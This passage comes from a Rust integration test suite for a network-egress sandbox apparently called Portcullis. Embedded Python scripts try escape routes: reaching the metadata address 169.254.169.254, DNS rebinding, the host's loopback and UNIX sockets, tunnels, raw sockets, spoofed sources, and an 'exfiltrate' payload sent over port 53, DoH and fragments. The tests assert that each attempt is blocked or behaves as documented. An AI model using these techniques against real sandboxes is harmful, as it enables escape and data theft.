            world.packets_to_port(addr, "tcp", 80)
        });
        settled_zero(&format!("{addr} udp/443 (QUIC)"), || {
            world.packets_to_port(addr, "udp", 443)
        });
    }
    assert_eq!(world.packets_to(ip6(0x88)), 0, "IPv6 of an IPv4-only name");
    let err = stderr(&out);
    assert!(err.contains("blocked  198.51.100.87:443/udp"), "{err}");
    assert!(
        err.contains("whose rules do not allow this port or protocol"),
        "{err}"
    );
}

// ------------------------------------------------------------------------------------------
// Answers pointing at special addresses; the host's own addresses, broadcast, UNIX sockets.
// ------------------------------------------------------------------------------------------

/// Ports aimed at the host (the uplink), each used by one attempt: (port, protocol).
const HOST_PORTS: [(u16, &str); 15] = [
    (7600, "tcp"), // host.test: the uplink's world-facing address 203.0.113.1
    (7601, "tcp"), // host6.test: 2001:db8:ffff::1
    (7602, "tcp"), // the sandbox's IPv4 gateway (the host side of the veth)
    (7603, "tcp"), // its IPv6 gateway
    (7604, "tcp"), // the host side's link-local address
    (7605, "tcp"), // lo.test: 127.0.0.1
    (7606, "tcp"), // lo6.test: ::1
    (7607, "tcp"), // 127.0.0.1 sent out of eth0 (SO_BINDTODEVICE)
    (7608, "udp"), // 255.255.255.255
    (7609, "udp"), // the /30's broadcast address
    (7610, "udp"), // 224.0.0.1, all hosts
    (7611, "udp"), // ff02::1%eth0, all nodes
    (7612, "udp"), // 203.0.113.1, unicast
    (7613, "tcp"), // ll.test: fe80::1%eth0
    (5353, "udp"), // mDNS, 224.0.0.251 and ff02::fb
];

/// Counters in the uplink: packets from a sandbox link (`pc-*`) to each host port as they
/// arrive (prerouting, before anything else), and as they pass Portcullis's `host_input`
/// (a later input chain: a packet dropped there never reaches it).
fn host_counters_ruleset() -> String {
    let mut counters = String::new();
    let mut arrived = String::new();
    let mut passed = String::new();
    for (port, proto) in HOST_PORTS {
        counters += &format!("  counter arrived_{port} {{ }}\n  counter passed_{port} {{ }}\n");
        arrived += &format!("    {proto} dport {port} counter name arrived_{port}\n");
        passed += &format!("    {proto} dport {port} counter name passed_{port}\n");
    }
    format!(
        "table inet attackcount {{\n{counters}\
         \x20 chain arrived {{\n    type filter hook prerouting priority raw; policy accept;\n\
         \x20   iifname != \"pc-*\" return\n{arrived}  }}\n\
         \x20 chain passed {{\n    type filter hook input priority filter + 10; policy accept;\n\
         \x20   iifname != \"pc-*\" return\n{passed}  }}\n}}\n"
    )
}

fn host_counter(world: &World, name: &str) -> u64 {
    let out = world
        .uplink_cmd("nft")
        .args(["-j", "list", "counter", "inet", "attackcount", name])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    json["nftables"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|o| o["counter"]["packets"].as_u64())
        .unwrap_or_else(|| panic!("no counter {name}: {json}"))
}

/// A host service in the uplink: TCP on every host port (dual-stack, so 127.0.0.1 and the
/// link-local address too), an abstract and a filesystem UNIX socket. It logs every
/// connection, and stops when its parent (the test) is gone, or after 120 s.
const HOST_SERVICE_PY: &str = r#"
import os, socket, sys, threading, time
log, abstract, path, ready, ports = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
parent, lock = os.getppid(), threading.Lock()

def note(text):
    with lock, open(log, "a") as f:
        f.write(text + "\n")

def serve(sock, label):
    while True:
        conn, peer = sock.accept()
        note("%s %s" % (label, peer))
        conn.close()

for port in map(int, ports.split(",")):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port))
    s.listen(16)
    threading.Thread(target=serve, args=(s, "tcp %d" % port), daemon=True).start()
for address, label in (("\0" + abstract, "unix abstract"), (path, "unix path")):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(address)
    s.listen(16)
    threading.Thread(target=serve, args=(s, label), daemon=True).start()
open(ready, "w").close()
deadline = time.monotonic() + 120
while time.monotonic() < deadline and os.getppid() == parent:
    time.sleep(0.2)
"#;

const SPECIAL_PY: &str = r#"
abstract, path = sys.argv[1], sys.argv[2]
eth0 = socket.if_nametoindex("eth0")

def out(*command):
    return subprocess.run(command, capture_output=True, text=True).stdout

gateway4 = out("ip", "-4", "route", "show", "default").split()[2]
gateway6 = out("ip", "-6", "route", "show", "default").split()[2]
own4 = out("ip", "-4", "-o", "addr", "show", "dev", "eth0").split()[3]

def connect_scoped(address, port, bind_device=None):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            if bind_device:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, bind_device)
            s.connect((address, port, 0, eth0) if family == socket.AF_INET6 else (address, port))
            return "connected"
    except OSError as e:
        return "failed: %s" % (e.strerror or e)

# The metadata address: hard-coded, and behind a denied name, before an allowed name
# points at it.
result("denied name on the metadata address", str(resolve("metaden.test")))
concurrently([
    ("metadata address hard-coded", lambda: connect("169.254.169.254", 81)),
    ("metadata address after the denied name", lambda: connect("169.254.169.254", 82)),
])
result("allowed name on the metadata address", str(resolve("meta.test", socket.AF_INET)))
result("metadata address after the allowed name", connect("169.254.169.254", 80))

# Allowed names pointing at the host's own addresses and at loopback; the host's addresses
# the sandbox can find by itself.
for case, name, family in (("the host's address", "host.test", socket.AF_INET),
                           ("the host's IPv6 address", "host6.test", socket.AF_INET6),
                           ("127.0.0.1", "lo.test", socket.AF_INET),
                           ("::1", "lo6.test", socket.AF_INET6),
                           ("fe80::1", "ll.test", socket.AF_INET6)):
    result("allowed name on %s" % case, str(resolve(name, family)))
# The connections through the gateway above put its MAC into the ARP cache.
mac = [l.split()[3] for l in open("/proc/net/arp").read().splitlines()[1:]
       if l.split()[0] == gateway4][0]
b = [int(x, 16) for x in mac.split(":")]
host_ll = "fe80::%02x%02x:%02xff:fe%02x:%02x%02x" % (b[0] ^ 2, b[1], b[2], b[3], b[4], b[5])
net = [int(x) for x in own4.split("/")[0].split(".")]
subnet_broadcast = "%d.%d.%d.%d" % (net[0], net[1], net[2], net[3] | 3)
broadcast = [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)]

def multicast6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", ("ff02::1", 7611, 0, eth0))
        s.sendto(b"x", ("ff02::fb", 5353, 0, eth0))
    return "sent"

def unix(address):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(address)
            return "connected"
    except OSError as e:
        return "failed: %s" % (e.strerror or e)

concurrently([
    ("host's address", lambda: connect("203.0.113.1", 7600)),
    ("host's IPv6 address", lambda: connect("2001:db8:ffff::1", 7601)),
    ("gateway", lambda: connect(gateway4, 7602)),
    ("IPv6 gateway", lambda: connect(gateway6, 7603)),
    ("host's link-local address", lambda: connect_scoped(host_ll, 7604)),
    ("127.0.0.1", lambda: connect("127.0.0.1", 7605)),
    ("::1", lambda: connect("::1", 7606)),
    ("127.0.0.1 bound to eth0", lambda: connect_scoped("127.0.0.1", 7607, b"eth0")),
    ("fe80::1 on eth0", lambda: connect_scoped("fe80::1", 7613)),
    ("limited broadcast", lambda: send_udp("255.255.255.255", 7608, options=broadcast)),
    ("subnet broadcast", lambda: send_udp(subnet_broadcast, 7609, options=broadcast)),
    ("all-hosts multicast", lambda: send_udp("224.0.0.1", 7610)),
    ("all-nodes and mDNS multicast over IPv6", multicast6),
    ("mDNS multicast", lambda: send_udp("224.0.0.251", 5353)),
    ("UDP to the host's address", lambda: send_udp("203.0.113.1", 7612)),
    # The abstract namespace belongs to the network namespace; the filesystem is shared
    # with the host (documented).
    ("host's abstract UNIX socket", lambda: unix("\0" + abstract)),
    ("host's filesystem UNIX socket", lambda: unix(path)),
])
"#;

#[test]
fn special_addresses_the_host_broadcast_and_unix_sockets() {
    let meta: IpAddr = Ipv4Addr::new(169, 254, 169, 254).into();
    let world = World::new(
        &Zone::new()
            .a(PROBE, PROBE4, 300)
            .a("meta.test", [169, 254, 169, 254], 300)
            .a("metaden.test", [169, 254, 169, 254], 300)
            .a("host.test", World::UPLINK_V4, 300)
            .aaaa("host6.test", World::UPLINK_V6, 300)
            .a("lo.test", Ipv4Addr::LOCALHOST, 300)
            .aaaa("lo6.test", Ipv6Addr::LOCALHOST, 300)
            .aaaa("ll.test", [0xfe80, 0, 0, 0, 0, 0, 0, 1], 300),
    );
    // The world owns the metadata address, as a cloud's metadata service would sit behind
    // the host's uplink; its servers answer there too.
    let added = world
        .world_cmd("ip")
        .args(["addr", "add", "169.254.169.254/32", "dev", "lo"])
        .status()
        .unwrap();
    assert!(added.success());
    for port in [80, 81, 82] {
        world.serve_tcp(port);
    }
    let rules = world.run_dir().join("attackcount.nft");
    std::fs::write(&rules, host_counters_ruleset()).unwrap();
    let loaded = world
        .uplink_cmd("nft")
        .arg("-f")
        .arg(&rules)
        .status()
        .unwrap();
    assert!(loaded.success(), "load the uplink's counters");

    let dir = world.run_dir();
    let (log, ready, path) = (
        dir.join("host-service.log"),
        dir.join("host-service.ready"),
        dir.join("host-service.sock"),
    );
    let abstract_name = format!("portcullis-attack-{}", world.prefix());
    let tcp_ports: Vec<String> = HOST_PORTS
        .iter()
        .filter(|(_, proto)| *proto == "tcp")
        .map(|(port, _)| port.to_string())
        .collect();
    let mut service = KillOnDrop::spawn(world.uplink_cmd("/usr/bin/python3").args([
        "-I",
        "-c",
        HOST_SERVICE_PY,
        log.to_str().unwrap(),
        &abstract_name,
        path.to_str().unwrap(),
        ready.to_str().unwrap(),
        &tcp_ports.join(","),
    ]));
    assert!(
        wait_until(Duration::from_secs(10), || ready.exists()),
        "the host service never started"
    );
    // The host's own view: its service answers on loopback and on its address.
    let local = world
        .uplink_cmd("/usr/bin/python3")
        .args([
            "-I",
            "-c",
            "import socket; [socket.create_connection((a, 7600), 2).close() for a in ('127.0.0.1', '203.0.113.1')]",
        ])
        .status()
        .unwrap();
    assert!(
        local.success(),
        "the host service is reachable from the host"
    );
    assert!(wait_until(Duration::from_secs(5), || {
        std::fs::read_to_string(&log).is_ok_and(|l| l.lines().count() == 2)
    }));
    std::fs::write(&log, "").unwrap();

    let policy = write_policy(
        &world,
        r#"
[[allow]]
domains = ["probe.test", "meta.test", "host.test", "host6.test", "lo.test", "lo6.test", "ll.test"]
"#,
    );
    let (out, cases) = cases_in_sandbox(
        &world,
        &["--policy", &policy],
        SPECIAL_PY,
        &[&abstract_name, path.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0));
    let refused = "failed: timed out";
    check(
        &cases,
        &[
            ("metadata address hard-coded", refused),
            (
                "denied name on the metadata address",
                "failed: Name or service not known",
            ),
            ("metadata address after the denied name", refused),
            // DNS rebinding: an allowed name's answer pointing at the metadata address (or
            // loopback, link-local...) opens nothing, and the record never reaches CMD.
            (
                "allowed name on the metadata address",
                "failed: No address associated with hostname",
            ),
            ("metadata address after the allowed name", refused),
            ("allowed name on the host's address", "['203.0.113.1']"),
            ("host's address", refused),
            (
                "allowed name on the host's IPv6 address",
                "['2001:db8:ffff::1']",
            ),
            ("host's IPv6 address", refused),
            ("gateway", refused),
            ("IPv6 gateway", refused),
            ("host's link-local address", refused),
            (
                "allowed name on 127.0.0.1",
                "failed: No address associated with hostname",
            ),
            ("127.0.0.1", "failed: Connection refused"),
            (
                "allowed name on ::1",
                "failed: No address associated with hostname",
            ),
            ("::1", "failed: Connection refused"),
            ("127.0.0.1 bound to eth0", refused),
            (
                "allowed name on fe80::1",
                "failed: No address associated with hostname",
            ),
            ("fe80::1 on eth0", refused),
            ("limited broadcast", "sent"),
            ("subnet broadcast", "sent"),
            ("all-hosts multicast", "sent"),
            ("all-nodes and mDNS multicast over IPv6", "sent"),
            ("mDNS multicast", "sent"),
            ("UDP to the host's address", "sent"),
            ("host's abstract UNIX socket", "failed: Connection refused"),
            ("host's filesystem UNIX socket", "connected"),
        ],
    );

    // The host: every attempt aimed at it arrived, and none got past Portcullis.
    let mut wrong = Vec::new();
    for (port, proto) in HOST_PORTS {
        let arrived = host_counter(&world, &format!("arrived_{port}"));
        let passed = host_counter(&world, &format!("passed_{port}"));
        // Loopback never leaves the sandbox, and fe80::1 has no neighbour to send to. 127.0.0.1
        // sent out of eth0 (SO_BINDTODEVICE needs no capability) does arrive, and the host's
        // kernel drops it as a martian before any input chain.
        let stays_inside = matches!(port, 7605 | 7606 | 7613);
        if passed != 0 || (arrived == 0) != stays_inside {
            wrong.push(format!(
                "{port}/{proto}: arrived {arrived}, passed {passed}"
            ));
        }
    }
    assert!(wrong.is_empty(), "host counters: {wrong:?}");
    let _ = service.0.kill();
    let _ = service.0.wait();
    let logged = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        !logged.contains("tcp "),
        "the host service was reached over the network: {logged}"
    );
    // Not protected (docs/security.md): the filesystem, and its UNIX sockets, are shared.
    assert!(logged.contains("unix path"), "{logged}");
    assert!(!logged.contains("unix abstract"), "{logged}");

    // The world: the metadata address got nothing, not even after an allowed name pointed at
    // it; the report names the refused answers.
    for port in [80, 81, 82] {
        assert_eq!(world.packets_to_port(meta, "tcp", port), 0, "port {port}");
    }
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("answer points at addresses never opened by name"),
        "{err}"
    );
    assert!(
        err.contains("refused  meta.test -> 169.254.169.254"),
        "{err}"
    );
    for addr in [
        IpAddr::V4(Ipv4Addr::LOCALHOST),
        IpAddr::V4(World::UPLINK_V4),
        IpAddr::V6(World::UPLINK_V6),
    ] {
        assert_eq!(world.packets_to(addr), 0, "{addr}");
    }
    assert!(!world.dns_queries().iter().any(|(n, _)| n == "metaden.test"));
}

// ------------------------------------------------------------------------------------------
// A root CMD without capabilities: tunnels, raw and packet sockets, user namespaces, its own
// links, routes, firewall and kernel settings; spoofed source addresses.
// ------------------------------------------------------------------------------------------

const PRIVILEGE_PY: &str = r#"
hard4, hard6 = sys.argv[1], sys.argv[2]
own4 = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", "eth0"], capture_output=True, text=True).stdout.split()[3].split("/")[0]
own6 = subprocess.run(["ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope", "global"], capture_output=True, text=True).stdout.split()[3].split("/")[0]
REFUSALS = ("Operation not permitted", "Permission denied", "Read-only file system")

def commands(*lines):
    """"refused" if every command failed for lack of privilege, else what went wrong."""
    wrong = []
    for line in lines:
        r = subprocess.run(line, shell=True, capture_output=True, text=True, timeout=10)
        text = (r.stdout + r.stderr).strip().replace("\n", " ")
        if r.returncode == 0 or not any(m.lower() in text.lower() for m in REFUSALS):
            wrong.append("%s: exit %d: %s" % (line, r.returncode, text[:120]))
    return "; ".join(wrong) or "refused"

def calls(*functions):
    wrong = []
    for f in functions:
        try:
            f()
            wrong.append("%s: allowed" % f.__doc__)
        except OSError as e:
            if e.errno not in (errno.EPERM, errno.EACCES, errno.EROFS):
                wrong.append("%s: %s" % (f.__doc__, e))
    return "; ".join(wrong) or "refused"

def sock(family, kind, proto):
    def f():
        socket.socket(family, kind, proto).close()
    f.__doc__ = "socket(%d, %d, %d)" % (family, kind, proto)
    return f

def sockopt(level, name, value, doc):
    def f():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(level, name, value)
    f.__doc__ = doc
    return f

def write(path):
    def f():
        with open(path, "w") as sysctl:
            sysctl.write("1")
    f.__doc__ = path
    return f

result("IP tunnels (GRE, IPIP, SIT, ip6tnl, ip6gre)", commands(
    "ip link add t0 type gre remote %s local %s" % (hard4, own4),
    "ip link add t1 type ipip remote %s" % hard4,
    "ip link add t2 type sit remote %s" % hard4,
    "ip link add t3 type ip6tnl remote %s" % hard6,
    "ip link add t4 type ip6gre remote %s" % hard6))
result("UDP tunnels (VXLAN, GENEVE, WireGuard)", commands(
    "ip link add vx0 type vxlan id 7 remote %s dstport 4789" % hard4,
    "ip link add gn0 type geneve id 7 remote %s" % hard4,
    "ip link add wg0 type wireguard"))
result("links on eth0 (macvlan, ipvlan, VLAN) and new veth or bridge", commands(
    "ip link add m0 link eth0 type macvlan", "ip link add i0 link eth0 type ipvlan",
    "ip link add link eth0 name eth0.5 type vlan id 5",
    "ip link add v0 type veth peer name v1", "ip link add b0 type bridge"))
result("IPsec tunnel (xfrm state and policy)", commands(
    "ip xfrm state add src %s dst %s proto esp spi 7 mode tunnel enc 'cbc(aes)' 0x00112233445566778899aabbccddeeff" % (own4, hard4),
    "ip xfrm policy add src 0.0.0.0/0 dst %s/32 dir out tmpl src %s dst %s proto esp mode tunnel" % (hard4, own4, hard4)))
result("raw sockets for tunnel protocols", calls(
    sock(socket.AF_INET, socket.SOCK_RAW, 47), sock(socket.AF_INET, socket.SOCK_RAW, 4),
    sock(socket.AF_INET, socket.SOCK_RAW, 41), sock(socket.AF_INET, socket.SOCK_RAW, 255),
    sock(socket.AF_INET, socket.SOCK_RAW, 17), sock(socket.AF_INET6, socket.SOCK_RAW, 47),
    sock(socket.AF_INET6, socket.SOCK_RAW, 41)))
result("packet sockets (cooked, and the obsolete SOCK_PACKET)", calls(
    sock(socket.AF_PACKET, socket.SOCK_DGRAM, 0), sock(socket.AF_INET, 10, 0x0300)))
result("IP_TRANSPARENT and SO_MARK", calls(
    sockopt(socket.IPPROTO_IP, 19, 1, "IP_TRANSPARENT"),
    sockopt(socket.SOL_SOCKET, 36, 1, "SO_MARK")))
result("routes, rules and neighbours", commands(
    "ip rule add from all lookup 100", "ip -6 route replace default dev eth0",
    "ip route add %s/32 dev eth0" % hard4, "ip route flush table main",
    "ip neigh replace 203.0.113.1 lladdr 02:00:00:00:00:01 dev eth0"))
result("eth0's addresses, MAC and MTU", commands(
    "ip -6 addr add 2001:db8::5/64 dev eth0", "ip addr flush dev eth0",
    "ip link set eth0 address 02:00:00:00:00:99", "ip link set eth0 mtu 9000"))
result("traffic control", commands("tc qdisc add dev eth0 root netem delay 1ms"))
result("nft flush ruleset", commands("nft flush ruleset"))
result("kernel settings of its network", calls(
    write("/proc/sys/net/ipv4/conf/all/route_localnet"),
    write("/proc/sys/net/ipv4/conf/eth0/accept_local"),
    write("/proc/sys/net/ipv4/ping_group_range"),
    write("/proc/sys/net/ipv6/conf/eth0/disable_ipv6")))
result("remounting /proc/sys, mounting proc or sysfs", commands(
    "mount -o remount,rw /proc/sys", "mount -t proc proc /mnt", "mount -t sysfs sys /mnt"))

# A new user namespace: its root has every capability, over namespaces it owns only. The
# sandbox's network namespace belongs to the initial user namespace.
libc = ctypes.CDLL(None, use_errno=True)
reader, writer = os.pipe()
child = os.fork()
if child == 0:
    outcomes = []
    def call(name, f):
        try:
            f()
            outcomes.append("%s ok" % name)
        except OSError as e:
            outcomes.append("%s %s" % (name, errno.errorcode.get(e.errno, e.errno)))
    def unshare(flags):
        if libc.unshare(flags) != 0:
            raise OSError(ctypes.get_errno(), "unshare")
    def setns(fd):
        if libc.setns(fd, 0x40000000) != 0:
            raise OSError(ctypes.get_errno(), "setns")
    sandbox_net = os.open("/proc/self/ns/net", os.O_RDONLY)
    call("userns", lambda: unshare(0x10000000))
    call("raw", sock(socket.AF_INET, socket.SOCK_RAW, 47))
    call("packet", sock(socket.AF_PACKET, socket.SOCK_RAW, 0))
    call("netns", lambda: unshare(0x40000000))
    call("raw in own netns", sock(socket.AF_INET, socket.SOCK_RAW, 47))
    call("send from own netns", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (hard4, 9999)))
    call("setns back", lambda: setns(sandbox_net))
    os.write(writer, ", ".join(outcomes).encode())
    os._exit(0)
os.close(writer)
os.waitpid(child, 0)
result("user namespace", os.read(reader, 4096).decode())

# Spoofed source addresses (IP_FREEBIND needs no capability), to an allowed address.
def spoofed(source, target, port):
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.IPPROTO_IPV6 if family == socket.AF_INET6 else socket.IPPROTO_IP,
                         78 if family == socket.AF_INET6 else 15, 1)
            s.bind((source, 0))
            s.sendto(b"x", (target, port))
        return "sent"
    except OSError as e:
        return "failed: %s" % e.strerror

def echo(target, port):
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            s.connect((target, port))
            s.send(b"x")
            return "answered: " + s.recv(100).decode().strip()
    except OSError as e:
        return "failed: %s" % (e.strerror or e)

# The allowed address answers the sandbox's own source (and the neighbours are resolved).
result("own source to the allowed address", echo("198.51.100.90", 7021))
result("own source to the allowed IPv6 address", echo("2001:db8::90", 7021))
# IPv4: the sandbox's own kernel will not send from an address it does not have (only
# IP_TRANSPARENT, which needs CAP_NET_ADMIN, lifts that). IPv6 sends, and Portcullis drops.
result("spoofed source to an allowed address", spoofed("203.0.113.77", "198.51.100.90", 7020))
spoof6 = own6.rsplit(":", 1)[0] + ":77"
result("spoofed source to an allowed IPv6 address", spoofed(spoof6, "2001:db8::90", 7020))
result("spoofed IPv6 source", spoof6)
"#;

#[test]
fn root_without_capabilities_cannot_tunnel_rewire_or_spoof() {
    let world = World::new(&Zone::new().a(PROBE, PROBE4, 300));
    world.serve_udp(7020);
    world.serve_udp(7021);
    world.serve_udp(9999);
    let (h4, h6) = (HARD4.to_string(), HARD6.to_string());
    let report = world.run_dir().join("report.json");
    let (out, cases) = cases_in_sandbox(
        &world,
        &[
            "--allow",
            "198.51.100.90",
            "--allow",
            "2001:db8::90",
            "--report",
            report.to_str().unwrap(),
        ],
        PRIVILEGE_PY,
        &[&h4, &h6],
    );
    assert_eq!(out.status.code(), Some(0));
    let spoof6 = cases
        .get("spoofed IPv6 source")
        .cloned()
        .unwrap_or_default();
    check(
        &cases,
        &[
            ("IP tunnels (GRE, IPIP, SIT, ip6tnl, ip6gre)", "refused"),
            ("UDP tunnels (VXLAN, GENEVE, WireGuard)", "refused"),
            (
                "links on eth0 (macvlan, ipvlan, VLAN) and new veth or bridge",
                "refused",
            ),
            ("IPsec tunnel (xfrm state and policy)", "refused"),
            ("raw sockets for tunnel protocols", "refused"),
            (
                "packet sockets (cooked, and the obsolete SOCK_PACKET)",
                "refused",
            ),
            ("IP_TRANSPARENT and SO_MARK", "refused"),
            ("routes, rules and neighbours", "refused"),
            ("eth0's addresses, MAC and MTU", "refused"),
            ("traffic control", "refused"),
            ("nft flush ruleset", "refused"),
            ("kernel settings of its network", "refused"),
            ("remounting /proc/sys, mounting proc or sysfs", "refused"),
            // Creating a user namespace is allowed (documented): it gains nothing over the
            // sandbox's network, and the network namespace it may make has loopback only.
            (
                "user namespace",
                "userns ok, raw EPERM, packet EPERM, netns ok, raw in own netns ok, \
                 send from own netns ENETUNREACH, setns back EPERM",
            ),
            (
                "spoofed source to an allowed address",
                "failed: Network is unreachable",
            ),
            ("spoofed source to an allowed IPv6 address", "sent"),
            (
                "own source to the allowed address",
                "answered: hello from world",
            ),
            (
                "own source to the allowed IPv6 address",
                "answered: hello from world",
            ),
            ("spoofed IPv6 source", &spoof6),
        ],
    );

    // Far side: nothing reached the hard-coded destinations through any tunnel or socket, and
    // spoofed packets died at the sandbox's edge, while its own reached the allowed address.
    let spoof6: IpAddr = spoof6.parse().unwrap();
    settled_zero("to the hard-coded addresses", || {
        world.packets_to(HARD4.into()) + world.packets_to(HARD6.into())
    });
    assert_eq!(world.packets_to_port(ip4(90), "udp", 7020), 0);
    assert_eq!(world.packets_to_port(ip6(0x90), "udp", 7020), 0);
    assert_eq!(world.packets_from(Ipv4Addr::new(203, 0, 113, 77).into()), 0);
    assert_eq!(world.packets_from(spoof6), 0);
    assert!(world.dns_log().is_empty(), "{:?}", world.dns_log());
    // The spoofed IPv6 datagram did leave the sandbox: the anti-spoofing table (netdev, the
    // first line) counted it, before the inet table's own source check could.
    let json = read_report(&report);
    assert!(json["spoofed_frames"].as_u64().unwrap() >= 1, "{json:#}");
}

// ------------------------------------------------------------------------------------------
// Hard-coded destinations by other means: DoH, DoT over IPv6, port 53 as a tunnel,
// fragments, UDP-Lite, QUIC, IPv4-mapped and translated IPv6 addresses.
// ------------------------------------------------------------------------------------------

const PROTOCOLS_PY: &str = r#"
hard4, hard6, dns6 = sys.argv[1], sys.argv[2], sys.argv[3]

def fragments_created():
    lines = [l.split() for l in open("/proc/net/snmp") if l.startswith("Ip:")]
    v4 = int(lines[1][lines[0].index("FragCreates")])
    v6 = int(dict(l.split() for l in open("/proc/net/snmp6") if l.strip())["Ip6FragCreates"])
    return v4, v6

def fragmented(target, port, proto=0):
    # Larger than the link's MTU, with path MTU discovery off: the kernel fragments it.
    if ":" in target:
        options = [(socket.IPPROTO_IPV6, 23, 0)]  # IPV6_MTU_DISCOVER, IPV6_PMTUDISC_DONT
    else:
        options = [(socket.IPPROTO_IP, 10, 0)]  # IP_MTU_DISCOVER, IP_PMTUDISC_DONT
    return send_udp(target, port, b"f" * 4000, proto=proto, options=options)

def to_port_53(target, transport):
    payload = b"GET /exfiltrate?data=0123456789 HTTP/1.1\r\nHost: x\r\n\r\n"
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    try:
        if transport == "tcp":
            with socket.create_connection((target, 53), timeout=3) as c:
                c.sendall(framed(payload))
                reply = read_framed(c)
        else:
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.settimeout(3)
                s.connect((target, 53))
                s.send(payload)
                reply = s.recv(65535)
        return "answered %s" % parse_reply(reply)["rcode"] if reply else "no answer"
    except OSError as e:
        return "failed: %s" % (e.strerror or e)

doh = (b"POST /dns-query HTTP/1.1\r\nHost: doh\r\nContent-Type: application/dns-message\r\n"
       b"Content-Length: 29\r\n\r\n" + query("secret.doh.example", 16))
before = fragments_created()
quic = b"\xc3\x00\x00\x00\x01" + os.urandom(1195)
concurrently([
    ("DoH to an address not allowed", lambda: connect("198.51.100.98", 443, send=doh)),
    ("DoH to an IPv6 address not allowed", lambda: connect("2001:db8::98", 443, send=doh)),
    ("DoT over IPv6", lambda: connect(dns6, 853)),
    ("TCP to a hard-coded port 53", lambda: to_port_53(hard4, "tcp")),
    ("UDP to a hard-coded port 53", lambda: to_port_53(hard4, "udp")),
    ("TCP to a hard-coded IPv6 port 53", lambda: to_port_53(hard6, "tcp")),
    ("UDP to a hard-coded IPv6 port 53", lambda: to_port_53(hard6, "udp")),
    ("IPv4-mapped IPv6 address", lambda: connect("::ffff:" + hard4, 80, family=socket.AF_INET6)),
    ("NAT64 address", lambda: connect("64:ff9b::c633:6463", 80)),
    ("6to4 address", lambda: connect("2002:c633:6463::1", 80)),
    ("fragmented UDP", lambda: fragmented(hard4, 9999)),
    ("fragmented UDP over IPv6", lambda: fragmented(hard6, 9999)),
    ("fragmented UDP to a TCP-only address, port 443", lambda: fragmented("198.51.100.97", 443)),
    ("fragmented UDP to a TCP-only address, port 9999", lambda: fragmented("198.51.100.97", 9999)),
    ("UDP-Lite", lambda: send_udp(hard4, 9999, proto=136)),
    ("UDP-Lite to a TCP-only address, port 443", lambda: send_udp("198.51.100.97", 443, proto=136)),
    ("QUIC-like UDP to a TCP-only address", lambda: send_udp("198.51.100.97", 443, quic)),
    ("TCP to the TCP-only address", lambda: connect("198.51.100.96", 443)),
])
after = fragments_created()
result("fragments created", "IPv4 %s, IPv6 %s" % (after[0] - before[0] >= 9, after[1] - before[1] >= 3))
"#;

#[test]
fn hard_coded_destinations_by_other_protocols_and_fragments() {
    let world = World::new(&Zone::new().a(PROBE, PROBE4, 300));
    for port in [443, 853, 80] {
        world.serve_tcp(port);
    }
    world.serve_udp(9999);
    world.serve_udp(443);
    let policy = write_policy(
        &world,
        r#"
[[allow]]
domain = "probe.test"

[[allow]]
cidr = "198.51.100.96/31"
ports = [443]
protocols = ["tcp"]
"#,
    );
    let (h4, h6, d6) = (
        HARD4.to_string(),
        HARD6.to_string(),
        World::DNS_V6.to_string(),
    );
    let (out, cases) = cases_in_sandbox(
        &world,
        &["--policy", &policy],
        PROTOCOLS_PY,
        &[&h4, &h6, &d6],
    );
    assert_eq!(out.status.code(), Some(0));
    let refused = "failed: timed out";
    check(
        &cases,
        &[
            ("DoH to an address not allowed", refused),
            ("DoH to an IPv6 address not allowed", refused),
            ("DoT over IPv6", refused),
            // Port 53 of any address is the relay, which takes only DNS.
            ("TCP to a hard-coded port 53", "answered FORMERR"),
            ("UDP to a hard-coded port 53", "answered FORMERR"),
            ("TCP to a hard-coded IPv6 port 53", "answered FORMERR"),
            ("UDP to a hard-coded IPv6 port 53", "answered FORMERR"),
            ("IPv4-mapped IPv6 address", refused),
            ("NAT64 address", refused),
            ("6to4 address", refused),
            ("fragmented UDP", "sent"),
            ("fragmented UDP over IPv6", "sent"),
            ("fragmented UDP to a TCP-only address, port 443", "sent"),
            ("fragmented UDP to a TCP-only address, port 9999", "sent"),
            ("UDP-Lite", "sent"),
            ("UDP-Lite to a TCP-only address, port 443", "sent"),
            ("QUIC-like UDP to a TCP-only address", "sent"),
            ("TCP to the TCP-only address", "connected"),
            ("fragments created", "IPv4 True, IPv6 True"),
        ],
    );

    assert!(
        world.packets_to_port(ip4(96), "tcp", 443) > 0,
        "the control"
    );
    let nowhere: [IpAddr; 8] = [
        HARD4.into(),
        HARD6.into(),
        ip4(98),
        ip6(0x98),
        ip4(97),
        "64:ff9b::c633:6463".parse().unwrap(),
        "2002:c633:6463::1".parse().unwrap(),
        "::ffff:198.51.100.99".parse().unwrap(),
    ];
    for addr in nowhere {
        settled_zero(&addr.to_string(), || world.packets_to(addr));
    }
